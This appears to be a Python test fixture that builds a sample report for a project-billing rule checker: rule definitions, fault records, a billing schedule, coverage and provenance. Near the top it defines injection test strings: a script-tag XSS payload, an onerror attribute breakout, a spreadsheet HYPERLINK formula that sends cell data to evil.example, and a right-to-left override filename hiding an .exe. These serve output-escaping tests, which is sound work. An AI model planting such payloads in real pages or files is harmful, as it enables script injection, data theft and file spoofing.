"""The parts of the sample report that stay the same: rules, faults, schedule, provenance."""

from typing import Any
from uuid import NAMESPACE_URL, uuid5

JOURNAL, SENT, PROFORMA = "9b1e" * 16, "77d0" * 16, "51aa" * 16
DRAFT, CHANGED = "c41a" * 16, "e09f" * 16
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
BROKEN_OUT = '"><img src=x onerror=alert(2)>'
RIGHT_TO_LEFT = "Filter \u202egnp.exe\u202c שלום"
REASONS = {
    "RTE430": "Cost of a core company stays in the CRM.",
    "RTE435": "Skip Sync is set on the actual.",
    "RTE470": "Cost is never billed to the customer.",
    "REQ304": "Work order bills ACC-1044, the contract bills ACC-1001.",
    "REQ308": "A serialised item with quantity 2.00.",
}
NAMES = {
    "RTE430": "core-cost-stays",
    "RTE435": "skip-sync",
    "RTE470": "cost-is-not-billed",
    "RTE420": "integrated-to-journal",
    "RTE410": "billable-to-proforma",
    "REQ304": "billing-account-not-on-contract",
    "REQ308": "serial-quantity-not-one",
    "REQ330": "approved-by-the-one-who-worked",
}
RULES: dict[str, dict[str, Any]] = {
    "REQ304": {
        "level": "error", "owner": "project manager", "tag": "documented", "excerpt_line": 12,
        "source": "learn: field-service/project-operations-integration-projects",
        "why": "An invoice to an account outside the contract cannot be confirmed.",
        "place": "rules/requirements.toml:10", "help": "Change the billing account on the work "
        "order, or add the customer to the contract line.",
        "excerpt": ['applies = ["present(project.contract)"]',
                    'when    = ["work_order.billing_account != contract_line.customer"]'],
        "values": [["work_order.billing_account", "ACC-1044"],
                   ["contract_line.customer", "ACC-1001"]],
    },
    "REQ308": {
        "level": "error", "owner": "warehouse manager", "tag": "documented", "excerpt_line": 61,
        "source": "learn: supply-chain/inventory/tracking-dimensions", "why": "One number names "
        "one piece.", "place": "rules/requirements-inventory.toml:58", "help": "Split the usage "
        "into one line per serial number on the work order product.",
        "excerpt": ["when    = [\"actual.tracked in ['serial', 'both']\",",
                    '           "actual.quantity != 1"]'],
        "values": [["actual.tracked", "serial"], ["actual.quantity", "2.00"]],
    },
    "REQ330": {
        "level": "warning", "owner": "controller", "tag": "inferred", "excerpt_line": 88,
        "source": "inferred: usual separation of duties", "why": "Auditors ask for a second pair "
        "of eyes.", "place": "rules/requirements-approval.toml:86", "help": "Ask a second "
        "approver in the approvals list, or accept it in [allow].",
        "excerpt": ['when    = ["approval.approved_by == actual.resource"]'],
        "values": [["approval.approved_by", "T. B…"], ["actual.resource", "T. B…"]],
    },
}  # fmt: skip
MESSAGES = {
    "REQ304": "Work order {work_order} bills ACC-1044, the contract bills ACC-1001.",
    "REQ308": "{description} carries a serial number and quantity {quantity}.",
    "REQ330": "The person who worked on {work_order} also approved it.",
}


def guid(name: str) -> str:
    return str(uuid5(NAMESPACE_URL, name))


def make_faults() -> list[dict[str, Any]]:
    return [
        {"code": "SRC010", "level": "error", "place": "records/contoso-ca/msdyn_actual.jsonl:6:88",
         "message": "`msdyn_amount` holds `12,5`, which is not a number", "record":
         guid("A-000406"), "help": "Write the amount with a point, or export the row again."},
        {"code": "LED903", "level": "error", "place": "proforma ACC-1044", "record": "",
         "message": "sent before with another body", "help": "Compare the two below; correct the "
         "draft by hand, or reverse it and send a new one."},
    ]  # fmt: skip


def make_schedule() -> list[dict[str, Any]]:
    return [
        {"kind": "milestone", "id": guid("M1"), "name": "M1 Commissioning", "company": "CAMF",
         "amount": "5000.00", "currency": "CAD", "status": "written", "document": PROFORMA,
         "reason": ""},
        {"kind": "retainer", "id": guid("R1"), "name": "Retainer November", "company": "USMF",
         "amount": "1250.00", "currency": "USD", "status": "left", "document": None,
         "reason": "Its date is after the cut-off."},
    ]  # fmt: skip


def make_coverage(actuals: list[dict[str, Any]]) -> list[dict[str, Any]]:
    lines = [
        ("DEP210", "company-integrated-with-finance", "deployment", "choose", "documented", 1),
        ("DEP220", "dataverse-only", "deployment", "choose", "documented", 1),
        ("REQ301", "project-without-contract", "requirements", "require", "documented", 0),
        ("REQ309", "batch-number-missing", "requirements-inventory", "require", "documented", 0),
        ("RTE450", "on-account-milestone", "routing", "route", "conflicting", 0),
    ]
    fired = {c: sum(c in a["findings"] for a in actuals) for c in RULES}
    made = [
        {"rule": r, "name": n, "file": f"rules/{f}.toml", "asks": a, "tag": t, "fired": k,
         "applied": len(actuals)}
        for r, n, f, a, t, k in lines
    ]  # fmt: skip
    for code, rule in RULES.items():
        made.append({
            "rule": code, "name": NAMES[code], "file": rule["place"].split(":")[0],
            "asks": "require", "tag": rule["tag"], "fired": fired[code], "applied": len(actuals),
        })  # fmt: skip
    return sorted(made, key=lambda line: str(line["rule"]))


def make_provenance(rows: int) -> dict[str, Any]:
    return {
        "rulebook": "7f3a9c", "inputs": "4c2d" * 16,
        "files": [
            {"path": "rules/deployment.toml", "digest": "a1" * 32, "origin": "shipped"},
            {"path": "rules/requirements.toml", "digest": "b2" * 32, "origin": "workspace"},
        ],
        "records": [
            {"path": "records/contoso-us/msdyn_actual.jsonl", "rows": rows, "digest": "c3" * 32},
        ],
        "sent": {"path": "sent.jsonl", "rows": 2},
        "settings": {"journal.lines_max": "200", "journal.period": "months",
                     "secrets": "(hidden)"},
    }  # fmt: skip
